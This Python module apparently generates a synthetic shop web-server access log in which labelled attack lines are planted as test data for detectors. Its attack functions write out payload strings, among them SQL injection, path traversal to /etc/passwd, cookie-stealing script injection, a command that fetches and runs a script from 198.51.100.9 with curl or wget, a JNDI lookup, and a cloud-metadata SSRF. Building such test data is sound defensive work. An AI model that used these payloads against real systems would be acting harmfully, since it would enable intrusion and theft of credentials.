"""A web server's log with planted attacks: realistic lines with known answers.

Most lines show an ordinary day of a shop: people with browsers, an app, a monitor that asks every minute, feed readers,
and several crawlers with a few per cent of the lines each. A few lines are attacks, by default two of each of ten
kinds. Each attack has a cause, the part of the line that gives it away.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

import numpy as np
import numpy.typing as npt

from ..constraints import Integer
from ..options import OptionError

_START = datetime(2026, 3, 2, tzinfo=UTC)

_BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{0}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Safari/605.1.{1}",
    "Mozilla/5.0 (X11; Linux x86_64; rv:{0}.0) Gecko/20100101 Firefox/{0}.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{1} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel {1}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{0}.0.0.0 Mobile",
)
_CRAWLERS = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
)
_WORDS = (
    "lamp", "chair", "table", "sofa", "shelf", "mirror", "carpet", "curtain", "cushion", "candle", "vase", "clock",
    "desk", "stool", "bench", "frame",
)  # fmt: skip
_ADJECTIVES = (
    "oak", "linen", "brass", "small", "large", "round", "white", "black", "nordic", "vintage", "modern", "classic",
    "folding", "woven",
)  # fmt: skip
_SECTIONS = ["products", "category", "blog", "help", "about", "cart", "search"]


@dataclass(frozen=True)
class AccessLog:
    """Lines in chronological order; `y` is 1 for attacks; `kinds` and `causes` are empty for all other lines.

    Examples
    --------
    >>> from ramodo.datasets import make_access_log
    >>> log = make_access_log(1000, 2, random_state=0)
    >>> len(log.lines), int(log.y.sum())
    (1000, 2)
    """

    lines: list[str]
    y: npt.NDArray[np.int8]
    kinds: list[str]
    causes: list[str]


@dataclass(frozen=True)
class _Request:
    agent: str
    path: str
    method: str = "GET"
    status: int = 200
    size: int = 0
    referrer: str = "-"
    cause: str = ""


def make_access_log(n_lines: int = 30_000, n_attacks: int = 20, *, random_state: int | None = None) -> AccessLog:
    """Return a log of `n_lines` lines in the combined format; `n_attacks` of them are attacks, of ten kinds in turn.

    Examples
    --------
    >>> from ramodo.datasets import make_access_log
    >>> log = make_access_log(1000, 10, random_state=0)
    >>> len(set(log.kinds)) - 1  # all other lines have the kind ""
    10
    """
    if not Integer(1).accepts(n_lines) or not Integer(0, n_lines).accepts(n_attacks):
        raise OptionError(
            "n_lines must be an integer of at least 1 and n_attacks one from 0 to n_lines, got "
            f"{n_lines!r} and {n_attacks!r}."
        )
    rng = np.random.default_rng(random_state)
    places = np.sort(rng.choice(n_lines, n_attacks, replace=False))
    order = rng.permutation(n_attacks)
    names = list(_ATTACKS)
    kinds = [""] * n_lines
    for place, number in zip(places.tolist(), order.tolist(), strict=True):
        kinds[place] = names[number % len(names)]
    seconds = np.sort(rng.integers(0, 86_400, n_lines))
    lines, causes = [], []
    for kind, second in zip(kinds, seconds.tolist(), strict=True):
        request = _ATTACKS[kind](rng) if kind else _ordinary(rng)
        lines.append(_written(request, _START + timedelta(seconds=second), rng))
        causes.append(request.cause)
    return AccessLog(lines, np.array([bool(kind) for kind in kinds], dtype=np.int8), kinds, causes)


def _written(request: _Request, when: datetime, rng: np.random.Generator) -> str:
    address = ".".join(str(n) for n in rng.integers(1, 255, 4))
    time = when.strftime("%d/%b/%Y:%H:%M:%S +0000")
    size = request.size or int(rng.integers(200, 40_000))
    asked = f'"{request.method} {request.path} HTTP/1.1" {request.status} {size}'
    return f'{address} - - [{time}] {asked} "{request.referrer}" "{request.agent}"'


# ---- an ordinary day -------------------------------------------------------------------------------------------------


def _one(rng: np.random.Generator, values: tuple[str, ...] | list[str]) -> str:
    return values[int(rng.integers(len(values)))]


def _browser(rng: np.random.Generator) -> str:
    return _one(rng, _BROWSERS).format(int(rng.integers(118, 135)), int(rng.integers(1, 9)))


def _page(rng: np.random.Generator) -> str:
    section = _one(rng, _SECTIONS)
    if section == "search":
        return f"/search?q={_one(rng, _ADJECTIVES)}+{_one(rng, _WORDS)}&page={int(rng.integers(1, 6))}"
    if section in ("cart", "about"):
        return f"/{section}"
    return f"/{section}/{_one(rng, _ADJECTIVES)}-{_one(rng, _WORDS)}-{int(rng.integers(1, 400))}"


def _ordinary(rng: np.random.Generator) -> _Request:
    share = rng.random()
    for limit, make in _CLIENTS:
        if share < limit:
            return make(rng)
    raise AssertionError("the shares of clients end at 1")


def _visitor(rng: np.random.Generator) -> _Request:
    came_from = _one(
        rng, ["-", "https://www.google.com/", "https://shop.example/", f"https://shop.example{_page(rng)}"]
    )
    status = int(rng.choice([200, 200, 200, 200, 304, 302, 404], p=[0.25, 0.25, 0.2, 0.15, 0.08, 0.04, 0.03]))
    return _Request(_browser(rng), _page(rng), status=status, referrer=came_from)


def _asset(rng: np.random.Generator) -> _Request:
    name = f"{_one(rng, _WORDS)}-{int(rng.integers(1, 400))}"
    path = _one(rng, [f"/img/{name}.jpg", f"/img/{name}.webp", "/static/site.css", "/static/app.js", "/favicon.ico"])
    return _Request(_browser(rng), path, referrer=f"https://shop.example{_page(rng)}")


def _buyer(rng: np.random.Generator) -> _Request:
    path = _one(rng, ["/cart/add", "/login", "/checkout/address", "/checkout/pay", "/newsletter"])
    return _Request(_browser(rng), path, "POST", int(rng.choice([200, 302])), referrer="https://shop.example/cart")


def _app(rng: np.random.Generator) -> _Request:
    agent = f"ShopApp/3.{int(rng.integers(0, 5))} ({_one(rng, ['iOS 17.4', 'Android 14', 'Android 13'])})"
    path = _one(
        rng, [f"/api/v2/items/{int(rng.integers(1, 400))}", "/api/v2/cart", "/api/v2/me", "/api/v2/offers?limit=20"]
    )
    return _Request(agent, path, size=int(rng.integers(120, 2400)))


def _monitor(_rng: np.random.Generator) -> _Request:
    return _Request("UptimeMonitor/1.4", "/health", size=15)


def _reader(rng: np.random.Generator) -> _Request:
    return _Request("FeedReader/2.1 (+https://feeds.example)", "/blog/feed.xml", status=int(rng.choice([200, 304])))


def _crawler(number: int) -> Callable[[np.random.Generator], _Request]:
    return lambda rng: _Request(_CRAWLERS[number], _one(rng, ["/robots.txt", *[_page(rng) for _ in range(9)]]))


_CLIENTS: tuple[tuple[float, Callable[[np.random.Generator], _Request]], ...] = (
    (0.36, _visitor),
    (0.66, _asset),
    (0.72, _buyer),
    (0.83, _app),
    (0.85, _monitor),
    (0.87, _reader),
    (0.92, _crawler(0)),
    (0.97, _crawler(1)),
    (1.01, _crawler(2)),
)
"""Cumulative shares of clients on an ordinary day."""


# ---- attacks ---------------------------------------------------------------------------------------------------------


def _sql(rng: np.random.Generator) -> _Request:
    cause = _one(rng, ["UNION%20SELECT", "%27%20OR%20%271%27=%271", "SLEEP(5)"])
    path = f"/products/{_one(rng, _ADJECTIVES)}-{_one(rng, _WORDS)}-{int(rng.integers(1, 400))}?id=1%20{cause}--"
    return _Request(_browser(rng), path, status=500, cause=cause)


def _traversal(rng: np.random.Generator) -> _Request:
    cause = _one(rng, ["../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//windows/win.ini"])
    return _Request(_browser(rng), f"/img/{cause}", status=404, cause=cause)


def _script(rng: np.random.Generator) -> _Request:
    cause = _one(rng, ["%3Cscript%3Ealert(1)%3C/script%3E", "%22onmouseover=%22alert(document.cookie)"])
    return _Request(_browser(rng), f"/search?q={_one(rng, _WORDS)}{cause}&page=1", cause=cause)


def _shell(rng: np.random.Generator) -> _Request:
    cause = _one(rng, ["wget+http://198.51.100.9/x.sh", "curl+-s+198.51.100.9|sh"])
    return _Request(_browser(rng), f"/cart/add?item=1;{cause}", "POST", 500, cause=cause)


def _lookup(rng: np.random.Generator) -> _Request:
    cause = "${jndi:ldap://198.51.100.9/a}"
    return _Request(cause, _page(rng), cause=cause)


def _web_shell(rng: np.random.Generator) -> _Request:
    cause = _one(rng, ["/wp-content/uploads/shell.php?cmd=id", "/vendor/phpunit/eval-stdin.php"])
    return _Request(_browser(rng), cause, "POST", 404, size=153, cause=cause)


def _secrets(rng: np.random.Generator) -> _Request:
    cause = _one(rng, ["/.env", "/.git/config", "/.aws/credentials"])
    return _Request(_browser(rng), cause, status=404, size=153, cause=cause)


def _scanner(rng: np.random.Generator) -> _Request:
    cause = _one(rng, ["sqlmap/1.8.2#stable", "Nikto/2.5.0"])
    return _Request(f"Mozilla/5.0 ({cause})", _page(rng), status=404, cause=cause)


def _template(rng: np.random.Generator) -> _Request:
    cause = _one(rng, ["{{7*7}}", "${T(java.lang.Runtime)}"])
    return _Request(_browser(rng), f"/newsletter?name={cause}", "POST", cause=cause)


def _inner_address(rng: np.random.Generator) -> _Request:
    cause = "http://169.254.169.254/latest/meta-data/"
    return _Request(_browser(rng), f"/api/v2/preview?url={cause}", status=403, cause=cause)


_ATTACKS: dict[str, Callable[[np.random.Generator], _Request]] = {
    "SQL injection": _sql,
    "path traversal": _traversal,
    "script injection": _script,
    "shell command": _shell,
    "log lookup": _lookup,
    "web shell": _web_shell,
    "secret files": _secrets,
    "scanner": _scanner,
    "template injection": _template,
    "inner address": _inner_address,
}
